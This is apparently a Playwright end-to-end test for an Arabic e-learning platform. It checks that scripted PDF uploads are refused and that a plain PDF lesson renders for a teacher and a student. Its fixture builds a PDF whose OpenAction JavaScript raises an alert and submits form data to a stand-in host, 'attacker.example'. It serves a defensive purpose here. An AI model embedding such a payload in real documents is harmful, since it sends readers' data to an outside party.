import type { Page } from '@playwright/test';
import { ORIGIN, registerTeacherViaApi, signOutViaApi } from '../support/auth';
import { expect, test, uniqueAccount } from '../support/fixtures';
import { expectNoHorizontalOverflow, SCREENSHOTS } from '../support/page-checks';

/**
 * A one-page PDF: a blue square, and (`script`) an OpenAction script that would show a dialog if anything ran it.
 * Offsets in the cross-reference table are computed, so the file is valid for any reader.
 */
function pdfWithScript(script = true): Buffer {
  const content = '0 0 1 rg 20 20 160 160 re f';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R${script ? ' /OpenAction 4 0 R' : ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 5 0 R >>',
    script ? '<< /S /JavaScript /JS (app.alert\\("pdf script ran"\\); this.submitForm\\("https://attacker.example/"\\);) >>' : '<< >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body);
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

async function call(page: Page, method: 'post' | 'put' | 'patch', url: string, data: unknown) {
  const res = await page.request[method](url, { data, headers: { origin: ORIGIN } });
  expect(res.ok(), await res.text()).toBe(true);
  return (await res.json()) as { id: string };
}

/** The colour at the middle of the first drawn page: the PDF's blue square once pdf.js has painted it. */
async function expectFirstPagePainted(page: Page) {
  const viewer = page.getByTestId('pdf-viewer');
  await expect(viewer).toHaveAttribute('data-state', 'shown');
  const first = viewer.getByTestId('pdf-page').first();
  await expect(first).toHaveAttribute('data-rendered', 'true');
  await expect(first).toHaveAttribute('aria-label', 'الصفحة 1 من 1');
  const [r, g, b] = await first.evaluate((canvas: HTMLCanvasElement) => [
    ...canvas.getContext('2d')!.getImageData(canvas.width / 2, canvas.height / 2, 1, 1).data,
  ]);
  expect([r, g, b]).toEqual([0, 0, 255]);
  // No frame at all: nothing for a frame-blocking header to refuse.
  await expect(page.locator('iframe')).toHaveCount(0);
}

test.describe('a PDF lesson (Arabic)', () => {
  test('refuses a PDF with a script, and shows a plain one’s first page in the teacher’s preview and to a student', async ({ page }) => {
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const teacher = uniqueAccount('pdf');
    await registerTeacherViaApi(page, teacher, 'أستاذ الملفات');
    const course = await call(page, 'post', '/api/courses/teacher/courses', { title: 'دورة الملخصات', kind: 'regular' });
    const section = await call(page, 'post', `/api/courses/teacher/courses/${course.id}/sections`, { title: 'الملخصات' });
    const lesson = await call(page, 'post', `/api/courses/teacher/courses/${course.id}/lessons`, {
      sectionId: section.id,
      title: 'ملخص الدرس الأول',
      type: 'file',
    });
    const send = (data: Buffer) =>
      page.request.put(`/api/courses/teacher/uploads/lessons/${lesson.id}`, {
        data,
        headers: { origin: ORIGIN, 'content-type': 'application/pdf', 'x-file-name': encodeURIComponent('ملخص.pdf') },
      });
    // A PDF with a script never reaches a student (issue 23, decision 109): refused at upload.
    const scripted = await send(pdfWithScript());
    expect(scripted.status()).toBe(415);
    expect(((await scripted.json()) as { error: { code: string } }).error.code).toBe('FILE_TYPE_NOT_ALLOWED');
    const uploaded = await send(pdfWithScript(false));
    expect(uploaded.ok(), await uploaded.text()).toBe(true);
    await call(page, 'put', `/api/courses/teacher/courses/${course.id}/plans`, { plans: [{ type: 'free', priceDzd: 0 }] });
    await call(page, 'patch', `/api/courses/teacher/courses/${course.id}`, { status: 'published' });

    // The teacher's preview.
    await page.setViewportSize({ width: 375, height: 812 });
    await page.goto(`/t/${teacher.subdomain}/preview/courses/${course.id}/lessons/${lesson.id}`);
    await expectFirstPagePainted(page);
    await expectNoHorizontalOverflow(page);
    await page.screenshot({ path: `${SCREENSHOTS}/pdf-lesson-preview-ar-375.png`, fullPage: true });
    await signOutViaApi(page);

    // A student of this platform, enrolled in the free course.
    const student = uniqueAccount('pdfs');
    const signUp = await page.request.post('/api/accounts/register/student', {
      data: { name: 'طالب الملفات', email: student.email, password: student.password, platform: teacher.subdomain },
      headers: { origin: ORIGIN },
    });
    expect(signUp.status(), await signUp.text()).toBe(201);
    await call(page, 'post', `/api/learning/student/courses/${course.id}/enroll-free`, {});
    await page.goto(`/student/dashboard/courses/${course.id}/lessons/${lesson.id}`);
    await expectFirstPagePainted(page);
    await expectNoHorizontalOverflow(page);
    await page.screenshot({ path: `${SCREENSHOTS}/pdf-lesson-student-ar-375.png`, fullPage: true });
    await page.setViewportSize({ width: 1280, height: 900 });
    await expectNoHorizontalOverflow(page);
    await page.screenshot({ path: `${SCREENSHOTS}/pdf-lesson-student-ar-1280.png`, fullPage: true });
    expect(dialogs).toEqual([]);
  });
});
